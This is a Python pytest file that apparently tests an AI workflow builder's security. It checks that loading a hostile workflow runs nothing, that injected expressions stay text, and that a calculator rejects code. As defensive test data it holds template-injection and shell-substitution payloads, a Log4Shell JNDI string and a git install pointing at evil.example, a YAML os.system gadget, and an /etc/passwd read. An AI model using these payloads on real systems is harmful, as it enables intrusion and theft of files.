"""Opening, importing and saving run nothing (3), and what is written in a workflow stays text (5)."""

import json
import subprocess
import sys
from pathlib import Path
from typing import Any

import httpx
import pytest

EVIL: dict[str, Any] = {
    "version": 1,
    "name": "{{ ''.__class__.__mro__ }} $(touch pwned) `touch pwned` ${7*7} <%= 7*7 %>",
    "on_open": "import os; os.system('touch pwned')",
    "requires": ["evil-package", "git+https://evil.example/x.git"],
    "schedule": "* * * * *",
    "webhook": "https://evil.example/hook",
    "nodes": [
        {"id": "code", "type": "python", "widgets": {"code": "open('pwned', 'w')"}},
        {"id": "module", "type": "os.system", "widgets": {"command": "touch pwned"}},
        {"id": "path", "type": "../../nodes/evil", "widgets": {}},
        {"id": "mcp", "type": "mcp_tools", "widgets": {"server": "npx -c 'touch pwned'", "command": "touch pwned"}},
        {
            "id": "llm",
            "type": "llm",
            "widgets": {"prompt": "x", "api_base": "http://127.0.0.1:9/", "model": "openai/m"},
        },
        {"id": "paint", "type": "gpt_image", "widgets": {"prompt": "x", "model": "demo/painter"}},
        {"id": "image", "type": "image", "widgets": {"file": "http://127.0.0.1:9/x.png"}},
        {"id": "weather", "type": "weather_tool", "widgets": {"city": "Paris"}},
    ],
    "links": [{"from": ["code", "out"], "to": ["llm", "prompt"]}],
}

WATCHED = """
import json, sys
from pathlib import Path

did = []
home = sys.argv[2]
CALLS = ("subprocess.Popen", "os.system", "os.exec", "os.posix_spawn", "os.fork", "pty.spawn", "socket.connect",
         "socket.getaddrinfo", "socket.sendto", "urllib.Request", "exec", "compile", "import", "pickle.find_class")

def watch(event, args):
    if watching and event in CALLS:
        did.append([event, str(args[0])[:200]])
    if watching and event == "open" and isinstance(args[1], str) and set(args[1]) & set("wax+"):
        did.append([event, str(args[0])])

watching = False
sys.addaudithook(watch)

import asyncio
from ai_node_builder import App, Settings
from ai_node_builder.workflow.check import check
from ai_node_builder.workflow.document import Workflow

async def open_it(text):
    global watching
    async with App(Settings.load(home=Path(home))) as app:
        check(Workflow.parse('{"version": 1, "nodes": [{"id": "t", "type": "text"}]}'), app.parts.registry)
        await app.parts.workflows.newest(1)
        watching = True
        workflow = Workflow.parse(text)
        problems = check(workflow, app.parts.registry)
        saved = await app.parts.workflows.create(workflow)
        await app.parts.workflows.save(saved.id, workflow)
        read = Workflow.parse((await app.parts.workflows.get(saved.id)).document)
        assert read == workflow and problems
        Workflow.parse(read.dump())
        watching = False

asyncio.run(open_it(Path(sys.argv[1]).read_text()))
print(json.dumps(did))
"""


def test_opening_checking_and_saving_run_nothing(tmp_path: Path, home: Path) -> None:
    """A hook below Python counts: no process, no connection, no code, no file but those of the database."""
    assert [did for did in watched(WATCHED, tmp_path, home) if not is_library_import(did)] == []
    assert not list(tmp_path.rglob("pwned"))


def watched(script: str, folder: Path, home: Path) -> list[list[str]]:
    """What a process did while it opened the evil workflow, each as the name of the event and what it was about."""
    (folder / "evil.workflow.json").write_text(json.dumps(EVIL))
    command = [sys.executable, "-c", script, "evil.workflow.json", str(home)]
    ran = subprocess.run(command, cwd=folder, capture_output=True, text=True, check=False)
    assert ran.returncode == 0, ran.stderr
    did: list[list[str]] = json.loads(ran.stdout)
    return did


def is_library_import(did: list[str]) -> bool:
    """Our own code loads some libraries late; nothing of the workflow's can be among them."""
    event, what = did
    return event in ("import", "exec", "compile") and "pwned" not in what and "evil" not in what


def test_the_hook_sees_what_it_looks_for(tmp_path: Path, home: Path) -> None:
    parse = "workflow = Workflow.parse(text)"
    spoiled = WATCHED.replace(parse, f"{parse}; open('seen', 'w').close()")
    assert ["open", "seen"] in watched(spoiled, tmp_path, home)


def test_an_import_over_http_runs_nothing(server: httpx.Client, home: Path) -> None:
    saved = server.post("/api/workflows", json=EVIL)
    assert saved.status_code == 201
    assert {"unknown_node_type"} <= {problem["code"] for problem in saved.json()["problems"]}
    server.put(f"/api/workflows/{saved.json()['id']}", json=EVIL)
    server.post("/api/workflows/check", json=EVIL)
    assert server.get(f"/api/workflows/{saved.json()['id']}").json()["workflow"] == EVIL
    assert (server.get("/api/runs").json()["runs"], server.get("/api/images").json()["images"]) == ([], [])
    assert not list(home.rglob("pwned"))


EXPRESSIONS = [
    "{{7*7}}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{7*7}",
    "%(x)s %s {0} {x.__class__}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{constructor.constructor('return process')()}}",
    "__import__('os').system('touch pwned')",
    "$(touch pwned)",
    "`touch pwned`",
    "!!python/object/apply:os.system ['touch pwned']",
    "=cmd|' /C calc'!A0",
    "${jndi:ldap://evil.example/a}",
    "\\u007b\\u007b7*7\\u007d\\u007d",
]


@pytest.mark.parametrize("expression", EXPRESSIONS)
def test_an_expression_stays_text(shared: httpx.Client, expression: str) -> None:
    """Through a widget, two wires, a model's answer, a tool's result, the history and the events."""
    text = {"id": "t", "type": "text", "widgets": {"text": expression}}
    shown = {"id": "d", "type": "display", "widgets": {}}
    workflow = {"version": 1, "name": expression, "nodes": [text, shown]}
    workflow["links"] = [{"from": ["t", "text"], "to": ["d", "value"]}]
    run = shared.post("/api/runs", json={"workflow": workflow}).json()["run_id"]
    assert json.dumps(expression)[1:-1] in shared.get(f"/api/runs/{run}/events").text
    said = shared.get(f"/api/runs/{run}").json()
    assert (said["name"], said["outputs"]["t"]["text"]) == (expression, expression)


CODE = [
    "().__class__.__bases__[0].__subclasses__()",
    "__import__('os').system('touch pwned')",
    "open('/etc/passwd').read()",
    "(lambda: 1)()",
    "[x for x in (1, 2)]",
    "sqrt.__globals__",
    "exec('1')",
    "f'{7*7}'",
    "9**9**9**9",
    "factorial(10**9)",
    "'a' * 10**10",
    "(" * 500 + "1" + ")" * 500,
]


@pytest.mark.parametrize("expression", CODE)
def test_the_calculator_knows_sums_only(shared: httpx.Client, expression: str) -> None:
    reply = shared.post("/api/tools/calculator", json={"arguments": {"expression": expression}})
    assert reply.status_code == 400
    assert reply.json()["code"] in ("calculation_error", "invalid_arguments")
